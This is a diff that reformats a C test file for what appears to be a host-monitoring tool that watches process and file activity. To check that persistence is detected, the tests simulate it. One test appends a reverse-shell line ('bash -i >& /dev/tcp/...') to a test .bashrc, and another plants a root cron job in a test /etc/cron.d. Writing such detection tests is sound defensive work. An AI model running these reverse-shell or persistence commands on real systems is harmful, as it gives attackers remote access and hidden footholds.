@@ -65,8 +65,9 @@ static pid_t start_copy(const char *path, int *ret_wr)
 	int p[2];
 	pid_t pid;
 	char cmd[1024];
-	int n = snprintf(cmd, sizeof(cmd), "cp /bin/bash %s && printf 'padding' >>%s && chmod 755 %s",
-	                 path, path, path);
+	int n = snprintf(cmd, sizeof(cmd),
+	                 "cp /bin/bash %s && printf 'padding' >>%s && chmod 755 %s", path, path,
+	                 path);
 
 	if (n < 0 || (size_t)n >= sizeof(cmd) || system(cmd) != 0 || pipe(p) < 0)
 		return -1;
@@ -185,7 +186,8 @@ static void test_proc_socks(void)
 
 		CHECK(proc_cpu(getpid(), &share, &secs) == 0 && share >= 0 && secs >= 0);
 		CHECK(proc_cpu(999999999, &share, &secs) < 0);
-		CHECK(proc_userns(getpid()) != 0 && proc_userns(getpid()) == proc_userns(getppid()));
+		CHECK(proc_userns(getpid()) != 0 &&
+		      proc_userns(getpid()) == proc_userns(getppid()));
 	}
 	close(p[1]);
 	waitpid(pid, NULL, 0);
@@ -218,8 +220,7 @@ static bool judge(const struct file_event *ev, void *u)
 /* A child opens path (for writing, creating it, with create); returns the errno of its open (0:
  * it could), while this process answers the file watch (which holds the child's open: this
  * process must not open watched files itself). */
-static int child_open_mode(struct file_watch *w, const char *path, bool create,
-                           struct seen_open *s)
+static int child_open_mode(struct file_watch *w, const char *path, bool create, struct seen_open *s)
 {
 	int p[2], err = -1;
 	pid_t pid;
@@ -323,8 +324,8 @@ static void test_filewatch(void)
 
 	/* persistence: a line appended to .bashrc, what it added, and who */
 	s = (struct seen_open){0};
-	snprintf(p, sizeof(p), "printf 'bash -i >& /dev/tcp/192.0.2.1/80 0>&1\\n' >>%s/home/code/.bashrc",
-	         root);
+	snprintf(p, sizeof(p),
+	         "printf 'bash -i >& /dev/tcp/192.0.2.1/80 0>&1\\n' >>%s/home/code/.bashrc", root);
 	CHECK(system(p) == 0);
 	CHECK(filewatch_read(w, judge, &s) >= 1);
 	CHECK(s.n == 1 && strstr(s.paths[0], "W N ") && strstr(s.paths[0], "/home/code/.bashrc"));
@@ -332,10 +333,11 @@ static void test_filewatch(void)
 	CHECK(s.writer > 0);
 	/* replaced by a rename (sed -i): no event, the rescan's comparison finds it, no writer */
 	s = (struct seen_open){0};
-	snprintf(p, sizeof(p),
-	         "printf 'alias ll=ls\\nexport PATH=/opt/x:$PATH\\n' >%s/tmp-bashrc && mv %s/tmp-bashrc "
-	         "%s/home/code/.bashrc",
-	         root, root, root);
+	snprintf(
+	        p, sizeof(p),
+	        "printf 'alias ll=ls\\nexport PATH=/opt/x:$PATH\\n' >%s/tmp-bashrc && mv %s/tmp-bashrc "
+	        "%s/home/code/.bashrc",
+	        root, root, root);
 	CHECK(system(p) == 0);
 	(void)filewatch_read(w, judge, &s);
 	CHECK(s.n == 0);
@@ -344,8 +346,10 @@ static void test_filewatch(void)
 	CHECK_STREQ(s.added, "export PATH=/opt/x:$PATH\n");
 	/* a file moved into a watched directory: new to the rescan, all of it */
 	s = (struct seen_open){0};
-	snprintf(p, sizeof(p), "mkdir -p %s/etc/cron.d && printf '* * * * * root id\\n' >%s/cronjob && mv "
-	         "%s/cronjob %s/etc/cron.d/job", root, root, root, root);
+	snprintf(p, sizeof(p),
+	         "mkdir -p %s/etc/cron.d && printf '* * * * * root id\\n' >%s/cronjob && mv "
+	         "%s/cronjob %s/etc/cron.d/job",
+	         root, root, root, root);
 	CHECK(system(p) == 0);
 	(void)filewatch_rescan(w, judge, &s); /* marks /etc/cron.d, reports the job */
 	CHECK(s.n == 1 && strstr(s.paths[0], "/etc/cron.d/job"));
